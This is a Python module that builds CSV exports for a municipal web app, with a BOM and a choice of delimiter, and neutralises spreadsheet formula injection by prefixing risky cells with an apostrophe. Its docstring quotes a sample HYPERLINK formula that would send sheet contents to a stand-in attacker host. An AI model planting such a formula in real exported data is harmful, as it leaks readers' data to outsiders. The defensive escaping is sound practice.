"""CSV as spreadsheet programs open it: UTF-8 with a BOM, comma or semicolon, no formulas.

Excel reads a CSV file without a byte order mark in the computer's legacy code page, so "Bäve
hembygdsförening" arrives as "BÃ¤ve"; with the BOM it reads UTF-8. Excel set to Swedish or
Norwegian also splits lines on semicolons (the comma is their decimal separator), so a comma
file opens as one column: the semicolon is for them.

Framework-free, so a script or another system that writes the same files gets the same rules;
the Wagtail app's downloads (``wagtail_civil.downloads``) use it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["CSV_CONTENT_TYPE", "DELIMITERS", "csv_bytes", "safe_cell"]

CSV_CONTENT_TYPE = "text/csv; charset=utf-8; header=present"
# ``?delimiter=`` → the character; the first is the default (RFC 4180's comma).
DELIMITERS = {"comma": ",", "semicolon": ";"}
# What makes a spreadsheet read a cell as a formula (or, tab and carriage return, lets a cell
# begin with one after the program strips them): OWASP's list for CSV injection.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """``value`` as text a spreadsheet shows as text, never runs as a formula.

    The register's names, meeting titles and descriptions are typed by editors and, through
    imports and signing requests, by people outside the municipality. A cell such as
    ``=HYPERLINK("https://evil.example/?"&A1;"Klicka")`` or ``@SUM(...)`` would be run by
    Excel or LibreOffice when a reader opens the file, and could send the sheet's contents
    away or start a program (CSV or formula injection). A leading apostrophe makes the
    spreadsheet treat the cell as text; the data loses nothing but a visible apostrophe on the
    rare value that begins with one of those characters (e.g. a title "- Inställt -").
    """
    if value is None:
        return ""
    text = str(value)
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], delimiter: str = ",") -> bytes:
    """The header and rows as CSV (RFC 4180: quoted where needed, CRLF line ends), UTF-8
    with a byte order mark, every cell through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue().encode("utf-8-sig")
